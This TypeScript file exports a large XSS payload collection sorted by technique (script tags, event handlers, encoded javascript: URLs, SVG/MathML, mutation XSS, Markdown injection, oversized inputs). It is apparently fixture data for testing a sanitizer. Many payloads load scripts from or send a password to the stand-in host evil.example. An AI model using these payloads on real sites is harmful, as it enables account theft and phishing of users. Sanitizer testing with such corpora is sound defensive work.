// Cross-site scripting (XSS) payloads by technique, derived from the rules of HTML, URLs and
// Markdown. Several families combine injection points with encodings.

/** The code that a successful payload runs. */
const RUN = 'steal(1)';

const combine = (
  templates: readonly ((value: string) => string)[],
  values: readonly string[],
): string[] => templates.flatMap((template) => values.map(template));

/** Elements that run scripts, load resources or cover the page. */
const elements = [
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT >`,
  `<script\n>${RUN}</script\t>`,
  `<script/x>${RUN}</script/y>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `<script src=//evil.example/a.js></script>`,
  `<script type=module>import "//evil.example/a.js"</script>`,
  `<script>${RUN}`,
  `</script><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'></title></textarea></style><script>${RUN}</script>`,
  '<iframe src=//evil.example></iframe>',
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  '<frameset><frame src=//evil.example></frameset>',
  '<object data=//evil.example/a.svg></object>',
  '<embed src=//evil.example/a.svg>',
  '<applet code=Evil.class></applet>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example/a.css>',
  '<link rel=import href=//evil.example/a.html>',
  '<form action=//evil.example><input name=password><button>Sign in</button></form>',
  '<input type=image src=//evil.example/a.png>',
  '<isindex type=image src=1>',
  '<portal src=//evil.example>',
  '<fencedframe src=//evil.example>',
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  '<video poster=//evil.example/a.png><source src=//evil.example/a.mp4></video>',
  '<picture><source srcset=//evil.example/a.png></picture>',
  '<img srcset="//evil.example/a.png 1x" src=x>',
  '<dialog open>Your session is over.</dialog>',
  '<body background=//evil.example/a.png>',
  '<table background=//evil.example/a.png><tr><td>x</td></tr></table>',
  '<a ping=//evil.example href=https://desk.example>x</a>',
  '<a id=config><a id=config name=url href=//evil.example>x</a>',
  '<form id=document><input name=cookie></form>',
  '<p is=x-evil>x</p>',
  '<x-evil>x</x-evil>',
];

/** Event handler attributes. */
const handlers = combine(
  [
    (on) => `<img src=x ${on}=${RUN}>`,
    (on) => `<p ${on}="${RUN}" tabindex=1 autofocus>x</p>`,
    (on) => `<a href="https://desk.example/"${on}='${RUN}'>x</a>`,
    (on) => `<video src=x ${on.toUpperCase()}=${RUN}></video>`,
    (on) => `<details open/${on}=${RUN}>x</details>`,
    (on) => `<b\n${on}\n=\n${RUN}>x</b>`,
    (on) => `<table><td ${on}=${RUN}>x`,
    (on) => `<p title="a>b" x/${on}=\`${RUN}\`>x</p>`,
  ],
  [
    'onerror',
    'onload',
    'onfocus',
    'ontoggle',
    'onpointerenter',
    'onanimationstart',
    'onwheel',
    'onbeforeinput',
  ],
);

/** URLs that run scripts or load resources, in several encodings. */
const urls = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A&#x61&#x76&#x61script&colon;${RUN}`,
  `javascript&#58${RUN}`,
  `java&Tab;script&NewLine;:${RUN}`,
  `\u0001javascript:${RUN}`,
  `%6Aavascript:${RUN}`,
  `javascript://desk.example/%0A${RUN}`,
  `ｊavascript:${RUN}`,
  `vbscript:${RUN}`,
  'data:text/html;base64,PHNjcmlwdD5zdGVhbCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg/onload=steal(1)>',
  'blob:https://desk.example/1',
  'file:///etc/passwd',
  '//evil.example/',
  '\\\\evil.example\\share',
];
const links = combine(
  [
    (url) => `[x](${url})`,
    (url) => `[x](<${url}>)`,
    (url) => `![x](${url})`,
    (url) => `<${url}>`,
    (url) => `[x][1]\n\n[1]: ${url} "title"`,
    (url) => `<a href="${url}">x</a>`,
    (url) => `<img src="${url}">`,
    (url) => `<form><button formaction="${url}">x</button></form>`,
  ],
  urls,
);

/** Styles that cover the page, load resources or move content. */
const styles = [
  '<p style="background:url(//evil.example/a.png)">x</p>',
  '<p style="position:fixed;inset:0;z-index:9">x</p>',
  '<p style="width:expression(steal(1))">x</p>',
  '<p style="behavior:url(a.htc);-moz-binding:url(a.xml)">x</p>',
  '<p style="b\\61ckground:u\\72l(//evil.example)">x</p>',
  '<style>@import "//evil.example/a.css";</style>',
  '<style>*{background:url(//evil.example/a.png)}</style>',
  '<style>@keyframes x{}</style><p style="animation:x" onanimationend=steal(1)>x</p>',
  '<p class="modal-backdrop show">x</p>',
  '<font color=red size=99>x</font>',
  '<marquee behavior=alternate onstart=steal(1)>x</marquee>',
];

/** SVG and MathML, which have their own parsing rules. */
const svgAndMathml = [
  '<svg onload=steal(1)>',
  '<svg><script>steal(1)</script></svg>',
  '<svg><script href=//evil.example/a.js /></svg>',
  '<svg><a xlink:href="javascript:steal(1)"><text y=20>x</text></a></svg>',
  '<svg><animate onbegin=steal(1) attributeName=x dur=1s>',
  '<svg><set attributeName=onmouseover to=steal(1)>',
  '<svg><a><animate attributeName=href values="javascript:steal(1)" /><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x><script>steal(1)</script></svg>#x"></svg>',
  '<svg><foreignObject><iframe src=//evil.example></iframe></foreignObject></svg>',
  '<svg><style>*{background:url(//evil.example)}</style></svg>',
  '<svg><image href=//evil.example/a.png></svg>',
  '<svg><![CDATA[><img src=x onerror=steal(1)>]]></svg>',
  '<math href="javascript:steal(1)">x</math>',
  '<math><maction actiontype=statusline xlink:href="javascript:steal(1)">x</maction></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=steal(1)></annotation-xml></math>',
];

/** Mutation XSS: HTML that becomes unsafe when the browser's parser repairs it. */
const mutations = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=steal(1)>">',
  '<svg></p><style><a id="</style><img src=x onerror=steal(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=steal(1)>',
  '<noembed><p title="</noembed><img src=x onerror=steal(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=steal(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=steal(1)>">',
  '<title><p title="</title><img src=x onerror=steal(1)>">',
  '<plaintext><img src=x onerror=steal(1)>',
  '<select><template><p title="</select><img src=x onerror=steal(1)>">',
  '<!--><img src=x onerror=steal(1)>-->',
  '<!--!><img src=x onerror=steal(1)>--!>',
  '<!-- --!><img src=x onerror=steal(1)> -->',
  '<![CDATA[<img src=x onerror=steal(1)>]]>',
  '<?xml-stylesheet href="javascript:steal(1)"?>',
  '<? <img src=x onerror=steal(1)> ?>',
  '<!doctype html [<!entity x "<script>steal(1)</script>">]>&x;',
  '<p title="`><img src=x onerror=steal(1)>`">x</p>',
  '<a href="https://desk.example/`onmouseover=steal(1)`">x</a>',
  '<table><a href="javascript:steal(1)">x<tr><td></a>',
  '<p><p><b><i></p></b><script>steal(1)</script></i>',
  '<a><a><a href=javascript:steal(1)>x',
  '<br><br/><br /></br><img/src/onerror=steal(1)>',
];

/** Encoded characters, look-alikes, and characters that are removed late. */
const encodings = [
  '&lt;script&gt;steal(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;steal(1)&amp;lt;/script&amp;gt;',
  '&#60;script&#62;steal(1)&#60;/script&#62;',
  '&#x3c;img src=x onerror=steal(1)&#x3e;',
  '&#0000060script&#0000062steal(1)',
  '&ltscript&gtsteal(1)',
  '\\<script\\>steal(1)\\</script\\>',
  '%3Cscript%3Esteal(1)%3C/script%3E',
  '\\u003cscript\\u003esteal(1)',
  '＜script＞steal(1)＜/script＞',
  '‹script›steal(1)‹/script›',
  '<scr\u200bipt>steal(1)</scr\u200bipt>',
  '<ſcript>steal(1)</ſcript>',
  '<\u0130mg src=x onerror=steal(1)>',
  '<img src=x one\u0301rror=steal(1)>',
  '\u202e<script>steal(1)</script>',
  '<img src=x onerror\u00a0=\u00a0steal(1)>',
  '<img\u000csrc=x\u000conerror=steal(1)>',
  '<img src=x\u2028onerror=steal(1)>',
  '+ADw-script+AD4-steal(1)+ADw-/script+AD4-',
  '\ufeff<script>steal(1)</script>',
  '\u001b<script>steal(1)</script>',
  '<\u0000script>steal(1)</\u0000script>',
  '<img src=x on\u0000error=steal(1)>',
  '[x](java\u0000script:steal(1))',
];

/** HTML that a Markdown renderer produces. */
const markdown = [
  '![a" onerror="steal(1)](https://desk.example/x.png)',
  '![a](https://desk.example/x.png "t\\" onload=\\"steal(1)")',
  '[a](https://desk.example "t\\" onclick=\\"steal(1)")',
  "[a](https://desk.example 't&quot; onclick=&quot;steal(1)')",
  '[a](https://desk.example/"onclick="steal(1))',
  '[<img src=x onerror=steal(1)>](https://desk.example)',
  '[![x](javascript:steal(1))](javascript:steal(1))',
  '<https://desk.example/"onmouseover="steal(1)>',
  '<https://desk.example/><script>steal(1)</script>',
  'https://desk.example/"><script>steal(1)</script>',
  'www.desk.example"onclick=steal(1)',
  'mailto:a@desk.example"onclick=steal(1)//',
  '`<svg/onload=steal(1)>`',
  '``` "><script>\nsteal(1)\n```',
  '```html\n</code></pre><script>steal(1)</script>\n```',
  '    </code></pre><script>steal(1)</script>',
  '| <script>steal(1)</script> |\n|---|\n| <style>*{}</style> |',
  '# <img src=x onerror=steal(1)>',
  '> <iframe src=//evil.example>\n> </iframe>',
  '- <details open ontoggle=steal(1)>\n- x',
  '1. [x](javascript:steal(1))\n2. ![x](vbscript:steal(1))',
  '[x]: javascript:steal(1)\n[x]',
  '[x](javascript&#58;steal(1))',
  '[x](javascript:steal(1) "title")',
  '[x](\njavascript:steal(1)\n)',
  '[x](  javascript:steal(1)  )',
  '[\\](javascript:steal(1))',
  '<steal@evil.example?subject=<script>steal(1)</script>>',
  '*<script>*steal(1)*</script>*',
  '~~<script>~~steal(1)~~</script>~~',
  '{{constructor.constructor("steal(1)")()}}',
  '{% raw %}<script>steal(1)</script>{% endraw %}',
  '<p v-html="steal(1)" ng-app ng-init="steal(1)" x-data x-init="steal(1)" hx-get=//evil.example>x</p>',
];

/** Inputs beyond size limits: a sanitizer that stops early leaves something open. */
const oversized = [
  `${'<b>'.repeat(2_000)}<script>${RUN}</script>`,
  `${'<'.repeat(5_000)}script>${RUN}</script>`,
  `<img title="${'a'.repeat(20_000)}" src=x onerror=${RUN}>`,
  `${'> '.repeat(500)}<script>${RUN}</script>`,
  `${'['.repeat(2_000)}x](javascript:${RUN})`,
  `[x](${'java'.repeat(3_000)}script:${RUN})`,
  `${'&lt;'.repeat(5_000)}script&gt;${RUN}`,
  `<p ${'x '.repeat(5_000)}onclick=${RUN}>x</p>`,
];

/** The payloads by technique. */
export const XSS_PAYLOADS: Readonly<Record<string, readonly string[]>> = {
  elements,
  handlers,
  links,
  styles,
  svgAndMathml,
  mutations,
  encodings,
  markdown,
  oversized,
};
